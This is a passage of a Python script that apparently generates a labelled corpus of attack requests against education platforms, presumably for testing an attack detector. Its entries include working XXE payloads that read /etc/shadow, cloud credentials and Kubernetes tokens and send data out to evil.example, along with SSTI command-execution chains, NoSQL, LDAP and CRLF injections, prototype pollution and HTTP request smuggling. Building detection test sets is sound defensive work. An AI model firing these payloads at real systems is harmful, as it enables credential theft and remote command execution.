        ("xml:marcxml", X + '<!DOCTYPE collection [<!ENTITY sh SYSTEM "file:///etc/shadow">]>\n<collection xmlns="http://www.loc.gov/MARC21/slim">'
                       '<record><datafield tag="245" ind1="1" ind2="0"><subfield code="a">&sh;</subfield></datafield></record></collection>'),
        ("xml:lti_outcomes", X + '<!DOCTYPE imsx_POXEnvelopeRequest [<!ENTITY tok SYSTEM "file:///var/run/secrets/kubernetes.io/serviceaccount/token">]>\n'
                            '<imsx_POXEnvelopeRequest xmlns="http://www.imsglobal.org/services/ltiv1p1/xsd/imsoms_v1p0"><imsx_POXBody><replaceResultRequest>'
                            '<resultRecord><sourcedGUID><sourcedId>&tok;</sourcedId></sourcedGUID><result><resultScore><language>en</language>'
                            '<textString>0.92</textString></resultScore></result></resultRecord></replaceResultRequest></imsx_POXBody></imsx_POXEnvelopeRequest>'),
        ("xml:olx", '<!DOCTYPE problem [<!ENTITY % dtd SYSTEM "https://evil.example/oob.dtd">%dtd;%send;]>\n<problem display_name="Ohm"><stringresponse answer="5"/></problem>'),
        ("xml:cml", X + '<!DOCTYPE cml [<!ENTITY e SYSTEM "expect://id">]>\n<cml xmlns="http://www.xml-cml.org/schema"><molecule id="m1"><name>&e;</name>'
                   '<atomArray><atom id="a1" elementType="C"/></atomArray></molecule></cml>'),
        ("xml:sbml", X + '<!DOCTYPE sbml PUBLIC "-//EVIL//DTD SBML//EN" "http://203.0.113.9/sbml.dtd">\n<sbml xmlns="http://www.sbml.org/sbml/level3/version2/core" level="3" version="2">'
                    '<model id="glycolysis"/></sbml>'),
        ("xml:tei", X + '<TEI xmlns="http://www.tei-c.org/ns/1.0" xmlns:xi="http://www.w3.org/2001/XInclude"><text><body>'
                   '<p><xi:include href="file:///etc/passwd" parse="text"/></p></body></text></TEI>'),
        ("xml:datacite", X + '<!DOCTYPE resource [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
                        '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">]>\n'
                        '<resource xmlns="http://datacite.org/schema/kernel-4"><titles><title>&e;</title></titles></resource>'),
        ("xml:svg", '<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY h SYSTEM "file:///etc/hostname">]>'
                   '<svg width="128" height="128" xmlns="http://www.w3.org/2000/svg"><text x="8" y="16">&h;</text></svg>'),
        ("xml:ncml", X + '<!DOCTYPE netcdf [<!ENTITY x SYSTEM "netdoc:///etc/passwd">]>\n<netcdf xmlns="http://www.unidata.ucar.edu/namespaces/netcdf/ncml-2.2">'
                    '<attribute name="title" value="&x;"/></netcdf>'),
        ("xml:sru_update", X + '<!DOCTYPE x [<!ENTITY % a SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">'
                          '<!ENTITY % b "<!ENTITY &#x25; c SYSTEM \'http://evil.example/?d=%a;\'>">%b;%c;]>\n<updateRequest/>'),
        ("xml:qti", X + '<!DOCTYPE assessmentItem SYSTEM "http://169.254.169.254/latest/meta-data/">\n<assessmentItem identifier="i1" title="Q"/>'),
        ("xml:scorm", '<?xml version="1.0"?>\n<!DOCTYPE manifest [\n  <!ELEMENT manifest ANY>\n  <!ENTITY  file  SYSTEM  "file:///c:/windows/win.ini">\n]>\n'
                     '<manifest identifier="w">&file;</manifest>'),
        ("json:sis_export", json.dumps({"format": "xml", "template": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///proc/self/environ">]><r>&x;</r>'})),
        ("upload:citations.xml", X + '<!DOCTYPE xml [<!ENTITY ent SYSTEM "file:///home/moodle/.aws/credentials">]>\n<xml><records><record>'
                                    '<titles><title>&ent;</title></titles></record></records></xml>'),
        ("xml:marcxml", '<?xml version="1.0" encoding="ISO-8859-1"?>\n<!DOCTYPE r [<!ENTITY % p SYSTEM "ftp://203.0.113.9:2121/x.dtd"> %p;]>\n<record/>'),
    ])


def gen_ssti(c):
    place_all(c, "ssti", [
        ("json:edx_cert", json.dumps({"name": "Verified cert", "template": "<h1>${self.module.cache.util.os.popen('id').read()}</h1>"})),
        ("json:edx_cert", json.dumps({"name": "Honor cert", "signatory_title": "<%import os%>${os.system('cat /etc/passwd')}"})),
        ("json:canvas_notify", json.dumps({"body": "Hi {{ config.__class__.__init__.__globals__['os'].popen('cat /etc/passwd').read() }}"})),
        ("survey", "{{ ''.__class__.__mro__[1].__subclasses__()[396]('id',shell=True,stdout=-1).communicate() }}"),
        ("forum", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
                  "{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
        ("json:survey_logic", json.dumps({"thankyou": "{{request.application.__globals__.__builtins__.__import__('os').popen('whoami').read()}}"})),
        ("quiz", "{{lipsum.__globals__.os.popen('ls /').read()}}"),
        ("sis_json", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
        ("form:sis_save", "msg=%23set(%24e%3D%22%22)%24e.getClass().forName(%22java.lang.Runtime%22).getMethod(%22getRuntime%22%2Cnull).invoke(null%2Cnull).exec(%22id%22)"),
        ("path:sis", "/doc/__%24%7BT(java.lang.Runtime).getRuntime().exec(%22id%22)%7D__::.x"),
        ("form:survey_admin", "email_register=%7B%7B_self.env.registerUndefinedFilterCallback(%22system%22)%7D%7D%7B%7B_self.env.getFilter(%22id%22)%7D%7D"),
        ("survey", "{{['cat /etc/passwd']|filter('system')}}"),
        ("form:survey_admin", "email_invite=%7Bsystem(%27cat+%2Fetc%2Fpasswd%27)%7D"),
        ("canvas_json", "<%= `id` %>"),
        ("json:canvas_notify", json.dumps({"subject": "<%= File.open('/etc/passwd').read %>"})),
        ("json:canvas_notify", json.dumps({"body": "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}"
                                                   "{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}"
                                                   "{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"})),
        ("json:judge_submit", json.dumps({"problem": 12, "statement_md": "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}"})),
        ("form:cert_template", "template=%7B%25+import+os+%25%7D%7B%7B+os.popen(%27id%27).read()+%7D%7D&name=default"),
        ("edx", "{{ settings.SECRET_KEY }}{% debug %}"),
    ])


def gen_nosqli(c):
    place_all(c, "nosqli", [
        ("json:lrs_login", '{"email":"admin@uni-example.edu","password":{"$ne":null}}'),
        ("json:sis_login", '{"username":{"$regex":"^adm"},"password":{"$gt":""}}'),
        ("form:sis_login", "username%5B%24ne%5D=x&password%5B%24ne%5D=x&lt=LT-7"),
        ("path:edx", "/forum/api/v1/threads?course_id=course-v1:UniX+CHEM101+Fall2024&author_id[$ne]=1"),
        ("json:repo_find", '{"selector":{"$where":"this.embargo_until < new Date() || sleep(5000)"}}'),
        ("json:forum_threads", '{"text":"titration","course_id":"course-v1:UniX+CHEM101+Fall2024","$where":"this.author_username.match(/^a.*/)"}'),
        ("json:judge_login", "{\"username\":\"admin\",\"password\":\"';return 'a'=='a' && ''=='\"}"),
        ("json:lrs_aggregate", '{"pipeline":[{"$match":{"$or":[{},{"statement.actor.mbox":{"$exists":true}}]}},{"$lookup":{"from":"users","localField":"_id","foreignField":"_id","as":"u"}}]}'),
        ("path:lrs", "/api/statements/aggregate?pipeline=%5B%7B%22%24match%22%3A%7B%22%24where%22%3A%22sleep(5000)%22%7D%7D%5D"),
        ("json:repo_find", '{"selector":{"owner":{"$expr":{"$function":{"body":"function(){return sleep(1000)}","args":[],"lang":"js"}}}}}'),
        ("path:judge", "/api/users?role[$exists]=true&password[$regex]=.*"),
        ("json:sis_profile", '{"filter":{"studentId":"S0048121","$or":[{"role":"admin"},{"_id":{"$gt":""}}]}}'),
        ("form:edx_forum", "course_id=course-v1%3AUniX%2BCHEM101%2BFall2024&body=hi&user_id%5B%24nin%5D%5B%5D=0"),
        ("xapi_agent", '{"mbox":{"$regex":".*@uni-example\\\\.edu"},"objectType":"Agent"}'),
    ])


def gen_ldapi(c):
    place_all(c, "ldapi", [
        ("sis_dir", "*)(uid=*))(|(uid=*"),
        ("sis_dir", "admin)(&)"),
        ("sis_dir", "*)(|(objectClass=*)"),
        ("canvas_search", "o'brien*)(userPassword=*"),
        ("sis_dir", "x)(|(mail=*@uni-example.edu)(eduPersonAffiliation=faculty)"),
        ("form:dir_login", "j_username=*))%00&j_password=anything&_eventId_proceed="),
        ("ws_post", ")(cn=*))(|(cn=*"),
        ("path:sis", "/directory/search?name=*)(memberOf=cn=admins,ou=groups,dc=uni-example,dc=edu&affiliation=staff"),
        ("form:moodle_login", "username=jdoe)(|(password=*)&password=x&logintoken=a8f7d6"),
        ("path:sis", "/directory/lookup?uid=%2a%29%28objectClass%3d%2a%29%29%28%7c%28uid%3d%2a"),
    ])


def gen_crlf(c):
    place_all(c, "crlf", [
        ("path:moodle", "/login/index.php?wantsurl=%0d%0aSet-Cookie:%20MoodleSession=attacker0fixed"),
        ("path:moodle", "/auth/saml2/login.php?wants=https://moodle.uni-example.edu/%0D%0ALocation:%20https://evil.example&idp=x"),
        ("path:canvas", "/login?lang=en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Ch1%3Epwn%3C/h1%3E"),
        ("path:edx", "/i18n/setlang/?language=fr%E5%98%8A%E5%98%8DSet-Cookie:csrftoken=attacker"),
        ("path:library", "/Search/Results?lookfor=x&redirect=%0aX-Forwarded-Host:%20evil.example"),
        ("path:sis", "/reports/download?name=report.csv%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
        ("form:sis_save", "launch_presentation_return_url=https%3A%2F%2Fcanvas.district-example.org%2F%0d%0aRefresh%3A0%3Burl%3D%2F%2Fevil.example"),
        ("path:repo", "/oauth/callback?state=%0d%0a%09Set-Cookie:%20session=evil"),
        ("json:lti_register", '{"redirect_uris":["https://tools.lti-example.edu/launch\\r\\nSet-Cookie: lti=1"],"client_name":"Lab tool"}'),
        ("path:hub", "/hub/login?next=%2Fhub%2F%23%0dSet-Cookie:jupyterhub-session-id=fixed"),
    ])


def gen_generic(c):
    place_all(c, "generic", [
        ("json:sis_profile", '{"preferredName":"Liam","__proto__":{"isAdmin":true}}'),
        ("path:survey", "/api/responses?constructor[prototype][role]=admin&sid=4411"),
        ("survey", "require('child_process').execSync('id').toString()"),
        ("json:grader_config", json.dumps({"reporter": "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')"})),
        ("json:judge_submit", '{"constructor":{"prototype":{"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/environ"}},"language_id":63}'),
        ("form:survey_admin", "settings%5B__proto__%5D%5BoutputFunctionName%5D=x%3Bprocess.mainModule.require%28%27child_process%27%29.execSync%28%27id%27%29%3B%2F%2F"),
        ("edx", "__import__('os').popen('id').read()"),
        ("quiz", "Kernel.exec('id') if eval(\"system('uname -a')\")"),
        ("forum", "<!--#exec cmd=\"/bin/cat /etc/passwd\" -->"),
        ("canvas_search", "x';this.constructor.constructor('return process')().exit();'"),
    ])


def gen_protocol(c):
    rng = rng_for("attack:protocol")
    H = lambda host: [["Host", HOSTS[host]], ["User-Agent", rng.choice(BROWSER_UAS)], ["Accept", "*/*"]]

    def raw(sub, method, host, uri, headers, body=None):
        key = ("protocol", sub)
        n = c.counters.get(key, 0)
        c.counters[key] = n + 1
        item = {"id": "%s/protocol/%s/%d" % (SET, sub, n), "set": SET, "category": "protocol", "expect": "detect",
                "method": method, "uri": uri, "version": "HTTP/1.1", "headers": H(host) + headers}
        if body is not None:
            item["body"] = body
        c.items.append(item)

    smug = "0\r\n\r\nGET /admin/user.php HTTP/1.1\r\nHost: localhost\r\nX-Ignore: x"
    raw("cl-te", "POST", "moodle", "/mod/forum/post.php",
        [["Content-Type", "application/x-www-form-urlencoded"], ["Content-Length", "4"], ["Transfer-Encoding", "chunked"]], smug)
    te_cl = "5c\r\nGPOST /hub/api/users HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n"
    raw("te-cl", "POST", "hub", "/hub/api/authorizations/token",
        [["Content-Type", "application/x-www-form-urlencoded"], ["Content-Length", "4"], ["Transfer-Encoding", "chunked"]], te_cl)
    raw("te-obfuscated", "POST", "canvas", "/api/v1/courses/4242/discussion_topics",
        [["Content-Type", "application/json"], ["Transfer-Encoding", "xchunked"], ["Content-Length", "2"]], "{}")
    raw("te-obfuscated", "POST", "lti", "/lti/launch",
        [["Content-Type", "application/x-www-form-urlencoded"], ["Transfer-Encoding", "chunked"], ["Transfer-encoding", "identity"],
         ["Content-Length", "11"]], "state=abcde")
    raw("h2c-upgrade", "GET", "hub", "/hub/api/",
        [["Connection", "Upgrade, HTTP2-Settings"], ["Upgrade", "h2c"], ["HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA"]])
    raw("dup-content-length", "POST", "sis", "/api/v2/auth/login",
        [["Content-Type", "application/json"], ["Content-Length", "27"], ["Content-Length", "90"]], '{"username":"a","password":"b"}'[:27])
    raw("dup-host", "GET", "judge", "/api/submissions/100001", [["Host", "internal-admin.judge.svc.cluster.local"]])
    raw("absolute-uri", "GET", "repo", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets", [])
    raw("range-dos", "GET", "moodle", "/pluginfile.php/5521/mod_resource/content/2/lecture07.pdf",
        [["Range", "bytes=0-," + ",".join("%d-%d" % (i, i + 1) for i in range(5, 200, 3))]])
    utf7 = "991122X1X2=%2BADw-script%2BAD4-alert(1)%2BADw-%2Fscript%2BAD4-"
    raw("charset-utf7", "POST", "survey", "/index.php/991122",
        [["Content-Type", "application/x-www-form-urlencoded; charset=utf-7"], ["Content-Length", str(len(utf7))]], utf7)
    inner = "GET /api/v1/accounts/1/admins HTTP/1.1\r\nX: y\r\n\r\n"
    raw("get-body-smuggle", "GET", "canvas", "/api/v1/users/self",
        [["Content-Length", str(len(inner))]], inner)


ATTACK_GENS = [gen_sqli, gen_xss, gen_lfi, gen_rfi, gen_rce, gen_php, gen_java, gen_ssrf, gen_xxe, gen_ssti,
               gen_nosqli, gen_ldapi, gen_crlf, gen_generic, gen_protocol]


# --------------------------------------------------------------------------
# Main
# --------------------------------------------------------------------------

def build(which):
    c = Corpus()
    gens = ATTACK_GENS if which == "attacks" else BENIGN_GENS + DEV_GENS
    for g in gens:
        g(c)
    ids = [it["id"] for it in c.items]
    if len(ids) != len(set(ids)):
        raise SystemExit("duplicate ids")
    return c.items


def main(argv):
    if len(argv) != 2 or argv[1] not in ("attacks", "benign", "stats"):
        sys.stderr.write("usage: corpus-edusci.py attacks|benign|stats\n")
        return 2
    if argv[1] == "stats":
        for which in ("attacks", "benign"):
            USED_PAYLOADS.clear()
            items = build(which)
            counts = {}
            for it in items:
                counts[it["category"]] = counts.get(it["category"], 0) + 1
            sys.stderr.write("%s: %d (%s)\n" % (which, len(items), ", ".join(
                "%s %d" % kv for kv in sorted(counts.items(), key=lambda kv: (-kv[1], kv[0])))))
        return 0
    out = sys.stdout
    for it in build(argv[1]):
        out.write(json.dumps(it, ensure_ascii=False) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
